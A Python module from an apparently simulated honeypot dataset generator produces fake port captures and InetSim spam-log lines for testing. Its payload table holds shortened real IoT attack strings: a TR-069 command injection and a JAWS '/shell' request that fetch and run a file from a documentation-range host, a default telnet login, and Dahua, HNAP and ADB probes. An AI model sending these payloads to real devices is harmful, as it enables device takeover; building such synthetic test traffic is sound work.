"""What synthetic strangers sent besides: attacks on listening ports, and spam to a simulated mail server (InetSim).

The attacks are those of public advisories, shortened, with addresses of documentation space."""

from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import numpy as np

from varde.decode.payload.capture import Capture
from varde.simulate._places import PLACES, source, source_text

MAIL_SENSOR, MAIL_FILE = "mail1", "mail1-service.log"
_TR069 = (
    b"POST /UD/act?1 HTTP/1.1\r\nHost: 127.0.0.1:7547\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\n"
    b"SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\nContent-Type: text/xml\r\n\r\n"
    b'<?xml version="1.0"?><SOAP-ENV:Body><u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1">'
    b"<NewNTPServer1>`cd /tmp;wget http://198.51.100.77/1;chmod 777 1;./1`</NewNTPServer1></u:SetNTPServers></SOAP-ENV:Body>"
)
_DAHUA = bytes.fromhex("a4000000000000000800000000000000") + bytes(16)
_SENT = (
    (7547, _TR069), (7547, _TR069), (37777, _DAHUA), (80, b"GET /HNAP1/ HTTP/1.1\r\nHost: 203.0.113.9\r\n\r\n"), (23, b"root\r\nxc3511\r\nenable\r\nsystem\r\nshell\r\n"),
    (80, b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.77/jaws;sh+/tmp/jaws HTTP/1.1\r\nUser-Agent: Hello, world\r\n\r\n"),
    (5555, b"CNXN\x00\x00\x00\x01\x00\x10\x00\x00\x07\x00\x00\x00" + b"\x32\x02\x00\x00\xbc\xb1\xa7\xb1" + b"host::\x00"),
)  # fmt: skip
"""Ports and payloads, the most frequent first."""

_BULK = ("win@lottery.example", "billing@invoices.example", "news@pharmacy.example")


def honeypot_captures(day: date, *, zone: ZoneInfo, seed: int = 1, count: int = 60) -> list[Capture]:
    """What was sent to ports that listen on one local day, in order of time."""
    rng = np.random.default_rng([seed, day.toordinal(), count])
    begin = datetime(day.year, day.month, day.day, tzinfo=zone)
    found = []
    for seconds in sorted(rng.uniform(0, 86_000, count)):
        port, data = _SENT[min(int(rng.zipf(1.7)) - 1, len(_SENT) - 1)]
        src = source_text(source(PLACES[int(rng.integers(len(PLACES)))].country, int(rng.integers(1, 3840))), 4)
        moment = int((begin + timedelta(seconds=float(seconds))).timestamp() * 1e6)
        found.append(Capture(moment, src, int(rng.integers(1024, 60000)), "203.0.113.9", port, 6, moment, moment + 400_000, len(data), data, "closed"))
    return found


def spam_day(day: date, *, zone: ZoneInfo, seed: int = 1, connections: int = 80) -> bytes:
    """Lines of InetSim's service.log of one local day: a few sources send most of the mail."""
    rng = np.random.default_rng([seed, day.toordinal(), connections])
    begin = datetime(day.year, day.month, day.day, tzinfo=zone)
    senders = [source_text(source(PLACES[int(rng.integers(len(PLACES)))].country, int(rng.integers(1, 3840))), 4) for _ in range(12)]
    lines = []
    for number, seconds in enumerate(sorted(rng.uniform(0, 86_000, connections))):
        stamp = f"[{begin + timedelta(seconds=float(seconds)):%Y-%m-%d %H:%M:%S}]"
        who = f"[run {day.day}] [smtp_25_tcp {25000 + number}] [{senders[min(int(rng.zipf(1.5)) - 1, 11)]}:{int(rng.integers(1024, 60000))}]"
        mails = min(int(rng.zipf(1.6)), 60)
        lines += [
            f"{stamp} {who} connect", f"{stamp} {who} recv: EHLO bulk{number % 5}.example", f"{stamp} {who} recv: MAIL FROM:<{_BULK[number % 3]}>",
            f"{stamp} {who} stat: 1 mails={mails} recips={mails * int(rng.integers(1, 9))} auth= creds= bytes={mails * 1450} tls=0 cipher=",
            f"{stamp} {who} disconnect",
        ]  # fmt: skip
    return ("\n".join(lines) + "\n").encode()
